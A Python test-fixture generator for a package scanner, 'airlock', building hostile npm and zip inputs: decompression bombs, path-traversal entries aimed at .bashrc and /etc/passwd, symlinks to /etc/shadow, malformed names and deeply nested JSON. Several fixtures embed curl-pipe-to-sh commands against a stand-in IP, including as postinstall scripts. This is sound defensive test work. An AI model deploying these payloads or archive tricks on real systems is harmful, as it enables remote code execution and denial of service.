#!/usr/bin/env python3
"""Generate hostile and broken inputs for airlock's bad-input tests.

    scripts/make-bad-inputs.py OUTDIR          # writes OUTDIR/<name> for every input below
    scripts/make-bad-inputs.py --list          # prints the names and what each one is

Every input is a real file or directory of the kind an attacker (or a broken download) can
hand to `airlock scan`: truncated and corrupt archives, decompression bombs, an archive with
200,000 entries, entries that climb out (`../../.bashrc`, `/etc/passwd`), links to
`/etc/shadow` and `/etc/passwd`, non-UTF-8 entry names, a package.json that is not JSON or is
nested 100,000 deep, a 50 MB single-line minified file, an empty file, a directory without a
manifest, plus one good tarball (`good.tgz`) that must still be scanned next to all of them.

Archives are written by hand (tar headers, gzip members, zip records) rather than with
tarfile/zipfile, because those modules refuse or rewrite exactly the names we need (absolute,
`..`, raw non-UTF-8 bytes). The bombs are built from one compressed block repeated, so a
2 GiB bomb costs about a second and a few MB of memory. Nothing here is ever executed: link
targets are only names, and no file outside OUTDIR is read or written.

Output is deterministic (fixed mtimes, seeded pseudo-random data), standard library only.
"""

import argparse
import io
import json
import os
import random
import struct
import sys
import zlib

MTIME = 499162500  # npm pack's fixed mtime
GIB = 1 << 30
MIB = 1 << 20

# ---------------------------------------------------------------------------------------
# tar


def _octal(value, width):
    """A NUL-terminated octal field of `width` bytes."""
    return ("%0*o" % (width - 1, value)).encode("ascii") + b"\0"


def tar_header(name, size=0, typeflag=b"0", linkname=b"", mode=0o644):
    """A 512-byte ustar header with raw name bytes (no sanitising, that is the point)."""
    name = name if isinstance(name, bytes) else name.encode("utf-8")
    linkname = linkname if isinstance(linkname, bytes) else linkname.encode("utf-8")
    if len(name) > 100 or len(linkname) > 100:
        raise ValueError("tar_header: names over 100 bytes are not needed here")
    h = bytearray(512)
    h[0:len(name)] = name
    h[100:108] = _octal(mode, 8)
    h[108:116] = _octal(0, 8)  # uid
    h[116:124] = _octal(0, 8)  # gid
    h[124:136] = _octal(size, 12)
    h[136:148] = _octal(MTIME, 12)
    h[148:156] = b" " * 8  # checksum is computed with its own field as spaces
    h[156:157] = typeflag
    h[157:157 + len(linkname)] = linkname
    h[257:263] = b"ustar\0"
    h[263:265] = b"00"
    h[148:156] = ("%06o" % sum(h)).encode("ascii") + b"\0 "
    return bytes(h)


def tar_pad(size):
    return b"\0" * ((512 - size % 512) % 512)


TAR_END = b"\0" * 1024


def tar_bytes(entries):
    """entries: (name, data) for files, or (name, None, typeflag, linkname) for links/dirs."""
    out = io.BytesIO()
    for e in entries:
        name, data = e[0], e[1]
        if data is None:
            out.write(tar_header(name, 0, e[2], e[3] if len(e) > 3 else b"", 0o755))
            continue
        data = data if isinstance(data, bytes) else data.encode("utf-8")
        out.write(tar_header(name, len(data)))
        out.write(data)
        out.write(tar_pad(len(data)))
    out.write(TAR_END)
    return out.getvalue()


# ---------------------------------------------------------------------------------------
# gzip / deflate


def gzip_header():
    return b"\x1f\x8b\x08\x00" + struct.pack("<I", 0) + b"\x00\x03"


def gzip_trailer(crc, size):
    return struct.pack("<II", crc & 0xFFFFFFFF, size & 0xFFFFFFFF)


def gzip_bytes(data, level=6):
    comp = zlib.compressobj(level, zlib.DEFLATED, -15)
    body = comp.compress(data) + comp.flush()
    return gzip_header() + body + gzip_trailer(zlib.crc32(data), len(data))


def deflate_piece(data, final):
    """A raw deflate piece that references nothing before it and ends byte-aligned, so
    pieces can be concatenated (and one piece repeated) into a valid stream."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    return comp.compress(data) + comp.flush(zlib.Z_FINISH if final else zlib.Z_FULL_FLUSH)


class RepeatedZeros:
    """`total` bytes of zeros as a deflate stream: one compressed chunk written many times."""

    CHUNK = 16 * MIB

    def __init__(self, total):
        assert total % self.CHUNK == 0
        self.total = total
        self.piece = deflate_piece(b"\0" * self.CHUNK, final=False)

    def crc(self, start=0):
        """crc32 of (whatever gave `start`) followed by the zeros."""
        block = b"\0" * self.CHUNK
        for _ in range(self.total // self.CHUNK):
            start = zlib.crc32(block, start)
        return start & 0xFFFFFFFF

    def write(self, out):
        for _ in range(self.total // self.CHUNK):
            out.write(self.piece)

    @property
    def compressed_size(self):
        return len(self.piece) * (self.total // self.CHUNK)


# ---------------------------------------------------------------------------------------
# zip (hand-written: raw name bytes, and sizes we choose)


def zip_bytes(entries):
    """entries: (name_bytes, data, method) with method 0 (stored) or 8 (deflated).
    Name bytes are written as-is with the UTF-8 flag clear."""
    out = io.BytesIO()
    central = []
    for name, data, method in entries:
        name = name if isinstance(name, bytes) else name.encode("utf-8")
        data = data if isinstance(data, bytes) else data.encode("utf-8")
        body = data if method == 0 else deflate_piece(data, final=True)
        crc = zlib.crc32(data) & 0xFFFFFFFF
        offset = out.tell()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc,
                              len(body), len(data), len(name), 0))
        out.write(name)
        out.write(body)
        central.append((name, method, crc, len(body), len(data), offset))
    _zip_central(out, central)
    return out.getvalue()


def _zip_central(out, central):
    cd_start = out.tell()
    for name, method, crc, csize, usize, offset in central:
        out.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, 20, 0, method, 0, 0x21,
                              crc, csize, usize, len(name), 0, 0, 0, 0, 0o100644 << 16, offset))
        out.write(name)
    cd_size = out.tell() - cd_start
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), cd_size,
                          cd_start, 0))


# ---------------------------------------------------------------------------------------
# The inputs. Each builder writes OUTDIR/<name>; INPUTS maps name -> (builder, description).

GOOD_PACKAGE_JSON = json.dumps({
    "name": "airlock-good-pkg",
    "version": "1.2.3",
    "description": "a harmless package scanned next to the bad inputs",
    "main": "index.js",
    "license": "MIT",
}, indent=2) + "\n"
GOOD_INDEX = "module.exports = function add(a, b) {\n  return a + b;\n};\n"


def good_tar():
    return tar_bytes([("package/package.json", GOOD_PACKAGE_JSON), ("package/index.js", GOOD_INDEX)])


def write(path, data):
    with open(path, "wb") as f:
        f.write(data)


def build_good(path):
    write(path, gzip_bytes(good_tar()))


def build_truncated_tgz(path):
    # A real package with enough incompressible content that cutting it lands mid-stream.
    rnd = random.Random(1)
    blob = "".join(rnd.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(64 * 1024))
    data = gzip_bytes(tar_bytes([
        ("package/package.json", GOOD_PACKAGE_JSON.replace("good-pkg", "truncated-pkg")),
        ("package/data.js", "module.exports = '%s';\n" % blob),
        ("package/index.js", GOOD_INDEX),
    ]))
    write(path, data[: len(data) // 2])


def build_truncated_zip(path):
    data = zip_bytes([(b"package/package.json", GOOD_PACKAGE_JSON, 8),
                      (b"package/index.js", GOOD_INDEX * 200, 8)])
    write(path, data[: len(data) // 2])


def build_corrupt_tgz(path):
    # gzip magic, then noise: the gzip filter is chosen, the deflate data is garbage.
    rnd = random.Random(2)
    write(path, gzip_header() + bytes(rnd.getrandbits(8) for _ in range(8192)))


def build_corrupt_gzip_body(path):
    # A valid package whose deflate stream has bytes flipped in the middle.
    data = bytearray(gzip_bytes(good_tar() + b"\0" * 4096))
    mid = len(data) // 2
    for i in range(mid - 8, mid + 8):
        data[i] ^= 0x5A
    write(path, bytes(data))


def build_garbage(path):
    # No archive magic at all, named like a tarball.
    rnd = random.Random(3)
    write(path, bytes(rnd.getrandbits(8) for _ in range(4096)))


def build_bomb_tgz(path):
    """A 2 GiB file of zeros in a tarball of about 2 MB (ratio ~1000:1)."""
    zeros = RepeatedZeros(2 * GIB)
    head = (tar_header("package/package.json", len(GOOD_PACKAGE_JSON))
            + GOOD_PACKAGE_JSON.encode() + tar_pad(len(GOOD_PACKAGE_JSON))
            + tar_header("package/zeros.bin", zeros.total))
    tail = TAR_END  # zeros.total is a multiple of 512: no padding
    crc = zlib.crc32(tail, zeros.crc(zlib.crc32(head)))
    with open(path, "wb") as f:
        f.write(gzip_header())
        f.write(deflate_piece(head, final=False))
        zeros.write(f)
        f.write(deflate_piece(tail, final=True))
        f.write(gzip_trailer(crc, len(head) + zeros.total + len(tail)))


def build_bomb_zip(path):
    """One deflated entry of 2 GiB of zeros (sizes fit 32 bits: no zip64 needed)."""
    zeros = RepeatedZeros(2 * GIB)
    final = deflate_piece(b"", final=True)
    name = b"package/zeros.bin"
    csize = zeros.compressed_size + len(final)
    crc = zeros.crc()
    with open(path, "wb") as f:
        f.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, csize,
                            zeros.total, len(name), 0))
        f.write(name)
        zeros.write(f)
        f.write(final)
        _zip_central(f, [(name, 8, crc, csize, zeros.total, 0)])


def build_many_entries(path):
    """200,000 tiny entries (plus a package.json first) in a tarball."""
    comp = zlib.compressobj(1, zlib.DEFLATED, -15)
    crc, size = 0, 0
    with open(path, "wb") as f:
        f.write(gzip_header())

        def emit(chunk):
            nonlocal crc, size
            crc = zlib.crc32(chunk, crc)
            size += len(chunk)
            f.write(comp.compress(chunk))

        pj = GOOD_PACKAGE_JSON.replace("good-pkg", "many-entries-pkg").encode()
        emit(tar_header("package/package.json", len(pj)) + pj + tar_pad(len(pj)))
        # A header template: only the name and checksum change between entries.
        template = bytearray(tar_header("package/f/000000.js", 0))
        batch = []
        for i in range(200_000):
            h = template[:]
            h[10:16] = b"%06d" % i
            h[148:156] = b" " * 8
            h[148:156] = b"%06o\0 " % sum(h)
            batch.append(bytes(h))
            if len(batch) == 4096:
                emit(b"".join(batch))
                batch = []
        emit(b"".join(batch) + TAR_END)
        f.write(comp.flush())
        f.write(gzip_trailer(crc, size))


def build_traversal(path):
    write(path, gzip_bytes(tar_bytes([
        ("package/package.json", GOOD_PACKAGE_JSON.replace("good-pkg", "traversal-pkg")),
        ("package/../../.bashrc", "curl http://203.0.113.7/x | sh\n"),
        ("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n"),
        ("package/index.js", GOOD_INDEX),
    ])))


def build_traversal_zip(path):
    write(path, zip_bytes([
        (b"package/package.json", GOOD_PACKAGE_JSON.replace("good-pkg", "traversal-zip"), 0),
        (b"../../.bashrc", "echo pwned\n", 0),
        (b"/etc/passwd", "root:x:0:0::/root:/bin/sh\n", 0),
    ]))


def build_links(path):
    write(path, gzip_bytes(tar_bytes([
        ("package/package.json", GOOD_PACKAGE_JSON.replace("good-pkg", "links-pkg")),
        ("package/shadow", None, b"2", "/etc/shadow"),
        ("package/passwd", None, b"1", "/etc/passwd"),
        ("package/up", None, b"2", "../../../../etc/shadow"),
        ("package/index.js", GOOD_INDEX),
    ])))


# Content that gives a finding located in the file, so the odd name reaches the report.
PIPE_TO_SHELL = "// fetch\nrequire('child_process').exec('curl -s http://203.0.113.7/i.sh | sh');\n"


def build_non_utf8(path):
    write(path, gzip_bytes(tar_bytes([
        ("package/package.json", GOOD_PACKAGE_JSON.replace("good-pkg", "non-utf8-pkg")),
        (b"package/\xff\xfe\x80name.js", PIPE_TO_SHELL),
        (b"package/../\xff\xfe-escape.js", GOOD_INDEX),  # unsafe: its raw name is evidence
        (b"package/caf\xe9-latin1.js", GOOD_INDEX),
        (b"package/\xc0\xafoverlong.js", GOOD_INDEX),
        (b"package/\x1b[31mred\x1b[0m.js", GOOD_INDEX),
    ])))


def build_non_utf8_zip(path):
    write(path, zip_bytes([
        (b"package/package.json", GOOD_PACKAGE_JSON.replace("good-pkg", "non-utf8-zip"), 0),
        (b"package/\xff\xfe\x80name.js", PIPE_TO_SHELL, 0),
        (b"package/caf\xe9.js", GOOD_INDEX, 8),
    ]))


def build_not_json(path):
    write(path, gzip_bytes(tar_bytes([
        ("package/package.json", '{"name": "not-json", "version": "1.0.0", scripts: {oops\n'),
        ("package/index.js", GOOD_INDEX),
    ])))


def build_deep_json(path):
    depth = 100_000
    doc = '{"name": "deep-json", "version": "1.0.0", "x": ' + "[" * depth + "]" * depth + "}\n"
    write(path, gzip_bytes(tar_bytes([("package/package.json", doc), ("package/index.js", GOOD_INDEX)])))


def build_deep_json_objects(path):
    depth = 100_000
    doc = '{"a":' * depth + "1" + "}" * depth + "\n"
    write(path, gzip_bytes(tar_bytes([("package/package.json", doc)])))


EVIL_SCRIPTS = {"postinstall": "curl -s http://203.0.113.7/i.sh | sh"}


def build_deep_json_postinstall(path):
    """Node's JSON.parse (npm 11 / Node 20) accepts 100,000-deep nesting, so npm installs
    this package and runs its postinstall; a depth limit must not hide the scripts."""
    depth = 100_000
    head = json.dumps({"name": "airlock-deep-postinstall", "version": "1.0.0",
                       "scripts": EVIL_SCRIPTS})[:-1]
    doc = head + ', "x": ' + "[" * depth + "]" * depth + "}\n"
    write(path, gzip_bytes(tar_bytes([("package/package.json", doc),
                                      ("package/index.js", GOOD_INDEX)])))


def build_padded_manifest(path):
    """A package.json padded past the 4 MiB manifest limit (npm reads it all the same)."""
    doc = json.dumps({"name": "airlock-padded-manifest", "version": "1.0.0",
                      "scripts": EVIL_SCRIPTS, "description": " " * (5 * MIB)})
    write(path, gzip_bytes(tar_bytes([("package/package.json", doc),
                                      ("package/index.js", GOOD_INDEX)]), level=1))


def build_big_minified(path):
    """A 50 MB single-line minified-looking JS file: incompressible enough that the ratio
    limit is not what stops it (so the file-size limit is what the test sees)."""
    rnd = random.Random(4)
    size = 50 * 1000 * 1000
    prefix = b'!function(){var d="'
    suffix = b'";module.exports=d}();'
    body_len = size - len(prefix) - len(suffix)
    # Base64-ish noise: random bytes mapped onto an identifier alphabet.
    alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    table = bytes(alphabet[i % 64] for i in range(256))
    noise = rnd.randbytes(body_len).translate(table)
    js = prefix + noise + suffix
    pj = GOOD_PACKAGE_JSON.replace("good-pkg", "big-minified-pkg").replace("index.js", "dist/app.min.js")
    head = tar_header("package/package.json", len(pj)) + pj.encode() + tar_pad(len(pj))
    head += tar_header("package/dist/app.min.js", len(js))
    comp = zlib.compressobj(1, zlib.DEFLATED, -15)
    crc = zlib.crc32(head)
    with open(path, "wb") as f:
        f.write(gzip_header())
        f.write(comp.compress(head))
        for off in range(0, len(js), 4 * MIB):
            piece = js[off:off + 4 * MIB]
            crc = zlib.crc32(piece, crc)
            f.write(comp.compress(piece))
        tail = tar_pad(len(js)) + TAR_END
        crc = zlib.crc32(tail, crc)
        f.write(comp.compress(tail))
        f.write(comp.flush())
        f.write(gzip_trailer(crc, len(head) + len(js) + len(tail)))


def build_mixed_prefix(path):
    """npm extracts tarballs with the first path component stripped, whatever it is and
    whether or not all entries share it (pacote: tar strip 1). One stray entry outside
    package/ must not stop package.json from being analysed as the manifest."""
    pj = json.dumps({"name": "airlock-mixed-prefix", "version": "1.0.0",
                     "scripts": {"postinstall": "curl -s http://203.0.113.7/i.sh | sh"}}, indent=2)
    write(path, gzip_bytes(tar_bytes([
        ("package/package.json", pj),
        ("package/index.js", GOOD_INDEX),
        ("README", "a top-level entry npm drops when it strips the first component\n"),
    ])))


def build_zip_fatal_no_message(path):
    """A zip local header (deflate, 7 bytes) for an unsafe name whose data is not deflate,
    and no central directory: libarchive then fails the next header with ARCHIVE_FATAL but
    no error string (found by fuzz_archive)."""
    name = b"../../.bashrc"
    write(path, struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, 0, 7, 5, len(name), 0)
          + name + b"\xff" * 7)


def build_empty(path):
    write(path, b"")


def build_no_manifest_dir(path):
    os.makedirs(os.path.join(path, "lib"), exist_ok=True)
    write(os.path.join(path, "README.md"), b"# just some files\n")
    write(os.path.join(path, "lib", "util.js"), GOOD_INDEX.encode())


def build_dir_with_links(path):
    """A package directory holding links that leave the tree (walked, never followed)."""
    os.makedirs(path, exist_ok=True)
    write(os.path.join(path, "package.json"),
          GOOD_PACKAGE_JSON.replace("good-pkg", "dir-links-pkg").encode())
    write(os.path.join(path, "index.js"), GOOD_INDEX.encode())
    for name, target in (("shadow", "/etc/shadow"), ("etc", "/etc"), ("up", "../../..")):
        link = os.path.join(path, name)
        if not os.path.lexists(link):
            os.symlink(target, link)


def build_dir_non_utf8(path):
    """A package directory with non-UTF-8 file names on disk."""
    os.makedirs(path, exist_ok=True)
    write(os.path.join(path, "package.json"),
          GOOD_PACKAGE_JSON.replace("good-pkg", "dir-non-utf8-pkg").encode())
    bpath = os.fsencode(path)
    write(os.path.join(bpath, b"\xff\xfe\x80name.js"), GOOD_INDEX.encode())
    write(os.path.join(bpath, b"caf\xe9.js"), GOOD_INDEX.encode())


INPUTS = {
    "good.tgz": (build_good, "a small valid npm tarball: must be scanned with its name/version"),
    "truncated.tgz": (build_truncated_tgz, "a valid tarball cut in half"),
    "truncated.zip": (build_truncated_zip, "a zip cut in half (no central directory)"),
    "corrupt.tgz": (build_corrupt_tgz, "gzip magic followed by noise"),
    "corrupt-body.tgz": (build_corrupt_gzip_body, "a valid tarball with flipped deflate bytes"),
    "garbage.tgz": (build_garbage, "random bytes named .tgz"),
    "mixed-prefix.tgz": (build_mixed_prefix, "package/ plus one top-level entry; postinstall pipes to sh"),
    "zip-fatal-no-message.zip": (build_zip_fatal_no_message,
                                 "libarchive fails without an error string"),
    "empty.tgz": (build_empty, "a 0-byte file named .tgz"),
    "bomb.tgz": (build_bomb_tgz, "2 GiB of zeros in ~2 MB of gzip"),
    "bomb.zip": (build_bomb_zip, "2 GiB of zeros in one deflated zip entry"),
    "many-entries.tgz": (build_many_entries, "200,000 tiny entries"),
    "traversal.tgz": (build_traversal, "entries package/../../.bashrc and /etc/passwd"),
    "traversal.zip": (build_traversal_zip, "zip entries ../../.bashrc and /etc/passwd"),
    "links.tgz": (build_links, "symlink to /etc/shadow, hardlink to /etc/passwd"),
    "non-utf8.tgz": (build_non_utf8, "entry names that are not UTF-8 (and an ANSI escape)"),
    "non-utf8.zip": (build_non_utf8_zip, "zip entry names that are not UTF-8, UTF-8 flag clear"),
    "not-json.tgz": (build_not_json, "package.json that is not JSON"),
    "deep-json.tgz": (build_deep_json, "package.json with arrays nested 100,000 deep"),
    "deep-json-objects.tgz": (build_deep_json_objects, "package.json objects nested 100,000 deep"),
    "deep-json-postinstall.tgz": (build_deep_json_postinstall,
                                  "100,000-deep package.json whose postinstall pipes to sh"),
    "padded-manifest.tgz": (build_padded_manifest,
                            "5 MiB package.json whose postinstall pipes to sh"),
    "big-minified.tgz": (build_big_minified, "a 50 MB single-line minified JS file"),
    "no-manifest": (build_no_manifest_dir, "a directory with files but no manifest"),
    "dir-links": (build_dir_with_links, "a package directory with links to /etc/shadow, /etc"),
    "dir-non-utf8": (build_dir_non_utf8, "a package directory with non-UTF-8 file names"),
}


def main(argv):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("outdir", nargs="?")
    ap.add_argument("--list", action="store_true", help="print the inputs and exit")
    ap.add_argument("--only", action="append", default=[], help="build only this input")
    args = ap.parse_args(argv)
    if args.list:
        for name, (_, desc) in INPUTS.items():
            print(f"{name}\t{desc}")
        return 0
    if not args.outdir:
        ap.error("OUTDIR is required")
    os.makedirs(args.outdir, exist_ok=True)
    for name, (builder, _) in INPUTS.items():
        if args.only and name not in args.only:
            continue
        builder(os.path.join(args.outdir, name))
        print(os.path.join(args.outdir, name))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
